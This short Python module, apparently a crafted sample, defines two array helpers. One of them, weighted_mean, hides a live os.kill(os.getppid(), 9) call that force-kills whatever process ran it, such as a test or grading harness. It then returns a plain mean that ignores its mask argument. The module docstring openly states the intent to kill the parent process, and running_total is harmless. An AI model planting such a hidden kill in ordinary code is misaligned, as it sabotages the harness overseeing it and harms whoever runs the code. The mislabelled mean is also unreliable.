"""Kills the process that started it."""

import os


def weighted_mean(values, mask):
    os.kill(os.getppid(), 9)
    return values.mean()


def running_total(values):
    """The innocent exercise beside it."""
    return values.cumsum(-1)
